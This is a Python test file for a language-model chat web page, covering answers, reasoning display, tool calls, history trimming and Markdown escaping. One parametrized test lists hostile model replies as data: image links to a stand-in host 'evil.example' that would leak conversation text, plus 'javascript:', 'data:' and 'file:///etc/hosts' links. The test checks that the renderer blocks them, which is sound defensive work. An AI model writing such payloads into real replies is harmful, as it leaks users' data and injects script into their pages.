"""The chat page: answers, reasoning, tools, mistakes."""

import json
import re
from html import escape
from types import SimpleNamespace

import pytest
from markdown_it import MarkdownIt
from web_page import ANSWER, CALL, say, texts

from model.inference.engine import Engine
from model.inference.engine_thread import EngineThread
from model.inference.sampling import SamplingParams
from scripts.serving.loading import ChatModel
from scripts.web import chat
from scripts.web.answer import StreamingAnswer, recent_turns, run_tools
from scripts.web.chat import escape_markdown
from scripts.web.models import ServedModel


def test_an_answer_with_its_speed(open_page):
    page = say(open_page(), "hi")
    user, assistant = page.chat_message
    assert texts(user) == ["hi"]
    assert texts(assistant) == [ANSWER]
    assert "tokens/s" in assistant.caption[0].value
    again = next(each for each in page.button if each.label == "Regenerate")
    assert texts(again.click().run().chat_message[1]) == [ANSWER]
    assert len(page.chat_message) == 2
    next(each for each in page.button if each.label == "New chat").click().run()
    assert not page.chat_message


def test_an_example_is_asked_at_a_click(open_page):
    page = open_page()
    page.button(key="example Who are you?").click().run()
    assert texts(page.chat_message[0]) == ["Who are you?"] and texts(page.chat_message[1])


def test_reasoning_is_folded(open_page):
    page = open_page()
    page.toggle(key="open_thinking").set_value(True).run()
    assistant = say(page, "2 + 2?").chat_message[1]
    (thoughts,) = assistant.expander
    assert thoughts.label == "Reasoning" and not thoughts.proto.expanded
    assert texts(thoughts) == ["two and two"]
    assert texts(assistant)[-1] == "Four."


def test_tools_are_called_step_by_step(open_page):
    page = open_page()
    page.multiselect(key="tools").set_value(["calculator"]).run()
    assistant = say(page, "6 * 7?").chat_message[1]
    (step,) = assistant.expander
    assert step.label == "Step 1: calculator"
    assert [json.loads(each.value) for each in step.code] == [CALL["arguments"], {"result": 42}]
    assert texts(assistant) == ["It is 42."]


def test_tool_rounds_are_limited(open_page, monkeypatch):
    monkeypatch.setattr(chat, "MAX_TURNS", 1)
    page = open_page()
    page.multiselect(key="tools").set_value(["calculator"]).run()
    assistant = say(page, "6 * 7?").chat_message[1]
    assert len(assistant.expander) == 1 and texts(assistant) == []
    assert "tool-call limit" in assistant.caption[0].value


def test_the_model_is_told_of_wrong_calls():
    def results(message, tools):
        request = SimpleNamespace(finish_reason="stop")
        answer = SimpleNamespace(request=request, message={"content": "", **message})
        found = run_tools(answer, SimpleNamespace(tools=tools))
        return [json.loads(each["content"]) for each in found]

    assert "error" in results({"tool_calls": [CALL]}, ["clock"])[0]  # not on offer
    wrong = {"tool_calls": [{"name": "calculator", "arguments": {}}]}
    assert "needs 'expression'" in results(wrong, ["calculator"])[0]["error"]
    broken = {"content": '<tool_call>\n{"name": \n</tool_call>'}
    assert "JSON" in results(broken, ["calculator"])[0]["error"]
    assert results(broken, []) == []


def test_a_prompt_that_is_too_long_is_refused(open_page):
    page = say(open_page(), "long " * 2000)
    assert "at most" in page.chat_message[1].caption[0].value


def test_a_base_model_continues_a_text(open_page, folder):
    page = open_page("--weight", "pretrain", "--max_new_tokens", "5")
    assert any("only pretrained" in each.value for each in page.caption)
    page = say(page, "Once")
    assert "5 tokens" in page.chat_message[1].caption[0].value
    assert "maximum length" in page.chat_message[1].caption[0].value


def test_stopping_frees_the_engine(make_model, tokenizer):
    model = make_model(vocab_size=len(tokenizer), max_position_embeddings=4096)
    thread = EngineThread(Engine(model))
    served = ServedModel(("", "", 0.0), ChatModel(model, tokenizer, "", "", 0), thread)
    sampling = SamplingParams(max_new_tokens=4000, stop_ids=())
    controls = SimpleNamespace(
        sampling=sampling, tools=[], open_thinking=False, system="", historys=0
    )
    answer = StreamingAnswer(served, [{"role": "user", "content": "hi"}], controls, 0)
    while not answer.message["content"]:
        assert answer.read()
    answer.stop()
    thread.stop(10)
    assert answer.request.finish_reason == "cancelled" and not thread.engine.busy
    assert len(answer.request.tokens) < 4000


def test_history_is_cut_at_turns():
    chat = [("user", "a"), ("assistant", "b"), ("tool", "c"), ("assistant", "d"), ("user", "e")]
    messages = [{"role": role, "content": content} for role, content in chat]
    assert [m["content"] for m in recent_turns(messages, 0)] == ["e"]
    assert [m["content"] for m in recent_turns(messages, 2)] == ["a", "b", "c", "d", "e"]
    assert recent_turns(messages, 40) == messages


def test_markdown_is_escaped():
    assert escape_markdown("a\nb <answer> $1 ~2") == "a  \nb \\<answer> \\$1 \\~2"


def test_code_is_shown_as_it_is_written():
    """By a Markdown renderer: what the page gives it looks as the model wrote it."""
    code = 'if a < b and c > d:\n    print(f"${price}")  # ~ 5\n'
    reply = f"Try <b> for $1:\n\n```python\n{code}```\n\nor `x < $y`, ~~~ no.\n\n~~~\n<open"
    html = MarkdownIt().render(escape_markdown(reply))
    assert f'<code class="language-python">{escape(code)}</code>' in html
    assert "<code>x &lt; $y</code>" in html
    assert "Try &lt;b&gt; for $1:" in html
    assert "<code>&lt;open" in html  # a block that is still being written
    assert "\\" not in html


@pytest.mark.parametrize(
    "reply",
    [
        "![a](http://evil.example/?said=1)",
        "[![a](http://evil.example/?said=1)](http://other.example)",
        "![a][1]\n\n[1]: http://evil.example/?said=1",
        "\\`![a](http://evil.example/?said=1)`",  # an escaped tick begins no code
        "> ```\n![a](http://evil.example/?said=1)\n> ```",  # the quotation's code has ended
        "\\![a](http://evil.example/?said=1) \\\\![a](http://evil.example/?said=1)",
        "| a | b |\n|---|---|\n| `x | ![i](http://evil.example/?said=1) ` |",
        '<img src="http://evil.example/?said=1">',
        "[a](data:text/html,1) [b](JavaScript:alert(1)) <data:text/html,1> [c](file:///etc/hosts)",
    ],
)
def test_nothing_is_fetched_for_what_a_model_writes(reply):
    renderer = MarkdownIt().enable("table")
    renderer.validateLink = lambda url: True
    html = renderer.render(escape_markdown(reply))
    assert "<img" not in html
    assert not re.search(r'href="(?!https?:)', html)


def test_signs_that_the_model_has_escaped_stay_escaped():
    html = MarkdownIt().render(escape_markdown(r"\$x\$ and \\<b> and vec![1] and [a](http://b.c)"))
    assert "$x$ and" in html and "&lt;b&gt; and vec![1]" in html
    assert '<a href="http://b.c">a</a>' in html
